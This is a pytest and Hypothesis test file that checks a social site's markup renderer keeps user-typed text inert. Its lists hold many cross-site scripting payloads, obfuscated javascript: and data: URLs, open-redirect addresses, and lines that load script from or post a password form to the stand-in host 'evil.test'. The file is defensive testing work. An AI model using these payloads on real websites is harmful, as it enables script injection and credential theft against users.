"""Nothing that anybody types can run, fetch or dress up as part of the site."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from social.core.markup import Linked, Mentioned, Rendered, plain_text, render
from tests.core.cleanliness import faults, inspect

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "java&#115;cript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&amp;#106;avascript:alert(1)",
    "\\javascript:alert(1)",
    "javascript\\:alert(1)",
    "\x01javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "view-source:https://example.org",
    "ftp://example.org/x",
    "tel:+441234",
    "//evil.test",
    "//evil.test/x.png",
    "/\\evil.test",
    "\\\\evil.test",
    "/&#47;evil.test",
    "/&#x2f;evil.test",
    "&#47;/evil.test",
    "/&Tab;/evil.test",
    "/&NewLine;/evil.test",
    "http:evil.test",
    "https:/evil.test",
    "https:///evil.test",
    "http:\\\\evil.test",
    "https://\\evil.test",
    "https://@evil.test",
    "../sign-out",
    "sign-out",
    "?next=//evil.test",
    ".",
    "",
]
RAW = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='/sign-out'>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.test></object>",
    "<embed src=//evil.test>",
    "<form action=//evil.test><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>@import '//evil.test'</style>",
    "<link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div id=main class=modal>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<x/onclick=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<a href='x'><b>",
    "</p></div></main><h1>Fake</h1>",
    "<plaintext>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<input autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)>",
    "<frameset onload=alert(1)>",
    "<\x00script>alert(1)</script>",
    "\x02klzzwxh:0000\x03",
    "\x02wzxhzdk:0\x03",
    "\x0260\x03script\x0262\x03alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
]
MARKDOWN = [
    '[x](/y "onmouseover=alert(1) \'")',
    '[x](/y "\\" onmouseover=alert(1)")',
    '[x](/y"onmouseover=alert(1)//)',
    "[x](</y onclick=alert(1)>)",
    '![x"onerror="alert(1)](/pictures/a)',
    '![x](/pictures/a"onerror="alert(1))',
    '![x](/pictures/a "t\\"onerror=alert(1)")',
    "![<script>alert(1)</script>](/pictures/a)",
    "[<img src=x onerror=alert(1)>](/y)",
    "[a](https://x.org/<script>alert(1)</script>)",
    '<https://x.org/"onmouseover=alert(1)>',
    "<javascript://x.org/%0aalert(1)>",
    "<data://text/html,x>",
    '<a@b.c"onclick=alert(1)>',
    'https://x.org/"onmouseover="alert(1)',
    "https://x.org/'onmouseover='alert(1)",
    "www.x.org/<script>alert(1)</script>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x][1]\n\n[1]: <javascript:alert(1)> "t"',
    "![x][1]\n\n[1]: /sign-out",
    "```html\n<script>alert(1)</script>\n```",
    '```{ #main .modal onclick="alert(1)" }\nx\n```',
    '``` {.x style="position:fixed"}\nx\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "## x {#main onclick=alert(1)}",
    "## <script>alert(1)</script>",
    '## "><img src=x onerror=alert(1)>',
    '[^"><script>alert(1)</script>] \n\n[^"><script>alert(1)</script>]: x',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[[<script>alert(1)</script>]]",
    '[["><script>alert(1)</script>|<img src=x onerror=alert(1)>]]',
    "[[javascript:alert(1)]]",
    "[[//evil.test|x]]",
    "[a [b](https://x.org) c](https://y.org)",
    "[![x](/pictures/a)](javascript:alert(1))",
    "[https://x.org](javascript:alert(1))",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    '| a |\n|:-:" onclick="alert(1)|\n| b |',
    "* [ ] <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    '--8<-- "/etc/passwd"',
    "*<script>*alert(1)*</script>*",
    "~~<script>~~alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "[x](/\t/evil.test)",
    "@<script>alert(1)</script>",
    "@evil",
    "@script",
]
PAYLOADS = [
    *RAW,
    *MARKDOWN,
    *(f"[words]({address})" for address in ADDRESSES),
    *(f"![words]({address})" for address in ADDRESSES),
    *(f"[words](<{address}>)" for address in ADDRESSES),
    *(f"[words][1]\n\n[1]: {address}" for address in ADDRESSES),
    *(f"<{address}>" for address in ADDRESSES),
]
PEOPLE = {
    "evil": Mentioned('javascript:alert(1)"><script>', "<script>alert(1)</script>"),
    "script": Mentioned("//evil.test", '"><img src=x onerror=alert(1)>'),
}
PAGES = {each: Linked(each, each) for each in ("javascript:alert(1)", "//evil.test")}


def hostile(text: str) -> Rendered:
    """Rendered with resolvers that are hostile too."""
    return render(text, mentions=lambda handles: PEOPLE, pages=lambda titles: PAGES)


def test_the_table_is_long_enough_to_mean_something() -> None:
    assert len(set(PAYLOADS)) > 300


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_payload_stays_words(text: str) -> None:
    for written in (
        text,
        f"- {text}",
        f"> {text}",
        f"# {text}",
        f"**{text}**",
        f"[a]({text})",
        f"a | b\n--|--\n{text} | x",
    ):
        assert faults(hostile(written).html) == []


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_text_leads_to_a_forbidden_address(address: str) -> None:
    for text in (f"[words]({address})", f"![words]({address})", f"[words](<{address}>)"):
        assert inspect(hostile(text).html).targets == []


@pytest.mark.parametrize("text", RAW[:40])
def test_raw_html_is_shown_as_it_was_typed(text: str) -> None:
    shown = plain_text(text)
    assert shown.replace("\n", " ").split()[0][:4] == text.split(maxsplit=1)[0][:4]


MARKS = [
    "*",
    "**",
    "_",
    "~~",
    "`",
    "```\n",
    "\n",
    "\n\n",
    "    ",
    "  \n",
    "> ",
    "- ",
    "1. ",
    "# ",
    "|",
    "|--|--|\n",
]
BRACKETS = [
    "[",
    "]",
    "(",
    ")",
    "![",
    "](",
    "[[",
    "]]",
    "[^1]",
    "[^1]: ",
    "[1]: ",
    "<",
    ">",
    '"',
    "'",
    "\\",
    "&",
    "&#",
]
NAMES = [
    "_",
    "&#",
    "---\n",
    "@evil",
    "@script",
    "@x",
    "a@b.com",
    "https://x.org/",
    "www.x.org",
    "javascript:",
    "//evil.test",
]
WORDS = [
    "/pictures/a",
    "<script>",
    "</script>",
    "onclick=",
    "style=",
    "id=",
    "word",
    "Ōé李",
    "- [ ] ",
    "---\n",
]
CONTROLS = [
    "\x00",
    "\x02",
    "\x03",
    "klzzwxh:0001",
    "wzxhzdk:0",
    "\ud800",
    "\u202e",
    "\u200b",
    "\t",
    "\r",
    "===\n",
]
PIECES = st.sampled_from([*MARKS, *BRACKETS, *NAMES, *WORDS, *CONTROLS, *RAW, *MARKDOWN])
TEXTS = st.one_of(st.lists(PIECES, max_size=40).map("".join), st.text(max_size=300))


@settings(max_examples=400, deadline=None)
@given(TEXTS)
def test_whatever_is_typed_comes_out_clean(text: str) -> None:
    rendered = hostile(text)
    assert faults(rendered.html) == []
    assert len(rendered.excerpt) <= 280
    assert len(rendered.html) <= 40 * len(text) + 400
    rendered.html.encode()
    assert plain_text(text) is not None


@settings(max_examples=150, deadline=None)
@given(TEXTS)
def test_rendering_twice_gives_the_same(text: str) -> None:
    assert hostile(text) == hostile(text)
